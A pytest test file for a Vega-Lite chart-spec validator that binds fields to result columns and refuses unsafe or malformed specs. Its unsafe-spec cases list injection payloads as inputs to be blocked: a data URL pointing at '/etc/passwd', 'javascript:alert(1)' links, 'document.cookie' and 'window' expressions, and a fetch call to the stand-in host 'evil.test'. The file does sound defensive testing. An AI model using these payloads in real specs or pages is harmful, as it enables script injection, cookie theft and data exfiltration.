"""The visualizer's spec is untrusted: good specs are bound to the result, unsafe or wrong ones are refused."""

import json

import pytest

from common.charts.spec import (
    CANONICAL_SCHEMA,
    MAX_SPEC_BYTES,
    ChartSpecError,
    bind_and_validate,
    chart_kind,
    validate,
)
from common.errors import BadRequest

COLUMNS = [{"name": "Region", "dtype": "str"}, {"name": "total_sales", "dtype": "float"},
           {"name": "month", "dtype": "date"}, {"name": "unit.price", "dtype": "float"}]
ROWS = [{"Region": f"r{i}", "total_sales": float(i), "month": "2025-01-01", "unit.price": 1.5} for i in range(10)]
RESULT = {"name": "result"}


def bar(**extra):
    return {"$schema": "https://vega.github.io/schema/vega-lite/v5.17.0.json", "data": RESULT, "mark": "bar",
            "encoding": {"x": {"field": "region", "type": "nominal"},
                         "y": {"field": "TOTAL_SALES", "type": "quantitative"}}, **extra}


def bind(spec, max_rows=100):
    return bind_and_validate(spec, COLUMNS, ROWS, max_rows=max_rows)


def refused(spec, *fragments):
    with pytest.raises(ChartSpecError) as caught:
        bind(spec)
    for fragment in fragments:
        assert fragment in caught.value.message, caught.value.message
    return caught.value


def test_a_bar_chart_is_bound_with_fields_spelled_as_the_columns():
    bound = bind(bar())
    assert bound["$schema"] == CANONICAL_SCHEMA
    assert bound["encoding"]["x"]["field"] == "Region"
    assert bound["encoding"]["y"]["field"] == "total_sales"
    assert bound["data"] == {"values": ROWS}
    assert chart_kind(bound) == "bar"


def test_binding_caps_the_rows_and_leaves_the_input_alone():
    spec = bar()
    original = json.loads(json.dumps(spec))
    bound = bind(spec, max_rows=3)
    assert bound["data"]["values"] == ROWS[:3]
    assert spec == original


def test_a_layered_spec_has_nested_fields_rewritten_and_nested_data_dropped():
    spec = {"data": RESULT, "layer": [
        {"data": RESULT, "mark": {"type": "line", "point": True},
         "encoding": {"x": {"field": "MONTH", "type": "temporal"},
                      "y": {"field": "total_sales", "type": "quantitative", "aggregate": "sum"},
                      "tooltip": [{"field": "region"}, {"field": "Total_Sales"}]}},
        {"mark": "rule", "encoding": {"y": {"field": "total_sales", "aggregate": "mean"}}},
    ]}
    bound = bind(spec)
    line, rule = bound["layer"]
    assert "data" not in line and "data" not in rule
    assert line["encoding"]["x"]["field"] == "month"
    assert [tip["field"] for tip in line["encoding"]["tooltip"]] == ["Region", "total_sales"]
    assert rule["encoding"]["y"]["field"] == "total_sales"
    assert chart_kind(bound) == "line"


def test_fields_made_by_transforms_may_be_used():
    spec = {"mark": "bar", "transform": [{"calculate": "datum.total_sales * 2", "as": "Doubled"},
                                         {"fold": ["total_sales"]}],
            "encoding": {"x": {"field": "doubled", "type": "quantitative"},
                         "y": {"field": "key", "type": "nominal"}, "color": {"field": "value"}}}
    bound = bind(spec)
    assert bound["encoding"]["x"]["field"] == "Doubled"


@pytest.mark.parametrize("written", ["unit.price", "UNIT.PRICE", "unit\\.price"])
def test_a_column_with_a_dot_is_escaped_so_it_is_not_read_as_nested(written):
    spec = {"mark": "point", "encoding": {"x": {"field": written, "type": "quantitative"}}}
    assert bind(spec)["encoding"]["x"]["field"] == "unit\\.price"


def test_repeat_names_result_columns():
    spec = {"repeat": {"column": ["TOTAL_SALES"]},
            "spec": {"mark": "bar", "encoding": {"x": {"field": {"repeat": "column"}, "type": "quantitative"}}}}
    assert bind(spec)["repeat"] == {"column": ["total_sales"]}


@pytest.mark.parametrize("spec,fragments", [
    ({"mark": "bar", "data": {"url": "https://example.com/x.csv"}}, ["data must be exactly"]),
    ({"mark": "bar", "data": {"url": "/etc/passwd"}}, ["data must be exactly"]),
    ({"mark": "bar", "data": {"values": [{"a": 1}]}}, ["data must be exactly"]),
    ({"layer": [{"mark": "bar", "data": {"values": [{"a": 1}]}}]}, ["spec.layer[0].data"]),
    ({"mark": "bar", "datasets": {"result": [{"a": 1}]}}, ["'datasets' is not allowed"]),
    ({"mark": "bar", "transform": [{"lookup": "Region", "from": {"data": {"url": "x.csv"}, "key": "k"}}]},
     ["only views may name data"]),
    ({"mark": "bar", "encoding": {"href": {"field": "Region"}}}, ["spec.encoding.href", "not allowed"]),
    ({"mark": {"type": "bar", "href": "javascript:alert(1)"}}, ["spec.mark.href"]),
    ({"mark": "bar", "config": {"mark": {"href": "javascript:alert(1)"}}}, ["spec.config.mark.href"]),
    ({"mark": "image", "encoding": {"url": {"field": "Region"}}}, ["spec.encoding.url"]),
    ({"mark": {"type": "image", "url": "javascript:alert(1)"}}, ["spec.mark.url"]),
    ({"mark": "bar", "usermeta": {"embedOptions": {"loader": {}}}}, ["'usermeta' is not allowed"]),
    ({"mark": "bar", "transform": [{"calculate": "window.location.href", "as": "x"}]}, ["may not use 'window'"]),
    ({"mark": "bar", "transform": [{"filter": "datum.constructor"}]}, ["may not use 'constructor'"]),
    ({"mark": "bar", "params": [{"name": "p", "expr": "fetch('https://evil.test/' + 1)"}]}, ["'fetch'"]),
    ({"mark": "bar", "title": {"text": {"expr": "document.cookie"}}}, ["'document'"]),
])
def test_unsafe_specs_are_refused(spec, fragments):
    refused(spec, *fragments)


def test_an_unknown_field_is_named_with_the_columns():
    error = refused({"mark": "bar", "encoding": {"x": {"field": "revenue", "type": "quantitative"}}},
                    "spec.encoding.x.field", "unknown field 'revenue'", "'Region'", "'total_sales'")
    assert error.code == "CHART_SPEC" and isinstance(error, BadRequest)


def test_an_unknown_field_deep_in_a_layer_is_found():
    refused({"layer": [{"mark": "bar", "encoding": {"x": {"field": "Region"}}},
                       {"mark": "text", "encoding": {"text": {"field": "label"}}}]},
            "spec.layer[1].encoding.text.field", "'label'")


def test_datum_fields_with_ordinary_names_are_allowed_in_expressions():
    spec = {"mark": "bar", "transform": [{"filter": "datum.location != null && datum['import'] > 0"}]}
    assert bind(spec)["transform"] == spec["transform"]


@pytest.mark.parametrize("spec,fragment", [
    ("not a spec", "must be a JSON object"),
    (["mark", "bar"], "must be a JSON object"),
    ({"encoding": {"x": {"field": "Region"}}}, "needs a 'mark'"),
    ({"mark": "pie"}, "'pie' is not a Vega-Lite mark"),
    ({"$schema": "https://vega.github.io/schema/vega-lite/v4.json", "mark": "bar"}, "not Vega-Lite v5"),
    ({"$schema": "https://vega.github.io/schema/vega/v5.json", "marks": []}, "not Vega-Lite v5"),
    ({"signals": [], "marks": [{"type": "rect"}]}, "looks like a Vega spec"),
    ({"mark": "bar", "width": float("nan")}, "not plain JSON"),
])
def test_malformed_specs_are_refused(spec, fragment):
    refused(spec, fragment)


def test_an_oversized_spec_is_refused():
    spec = bar(description="x" * MAX_SPEC_BYTES)
    refused(spec, "bytes; at most")


def test_a_deeply_nested_spec_is_refused_without_crashing():
    nested: dict = {}
    node = nested
    for _ in range(200):
        node["a"] = {}
        node = node["a"]
    refused({"mark": "bar", "config": nested}, "nested")


@pytest.mark.parametrize("mark,kind", [
    ("bar", "bar"), ({"type": "line"}, "line"), ("area", "area"), ("circle", "point"), ("text", "table"),
    ("arc", "other"), ("rect", "other"),
])
def test_chart_kind_comes_from_the_mark(mark, kind):
    assert chart_kind(validate({"mark": mark}, ["Region"])) == kind


def test_chart_kind_of_a_bar_with_text_labels_is_bar():
    assert chart_kind({"layer": [{"mark": "text"}, {"mark": "bar"}]}) == "bar"
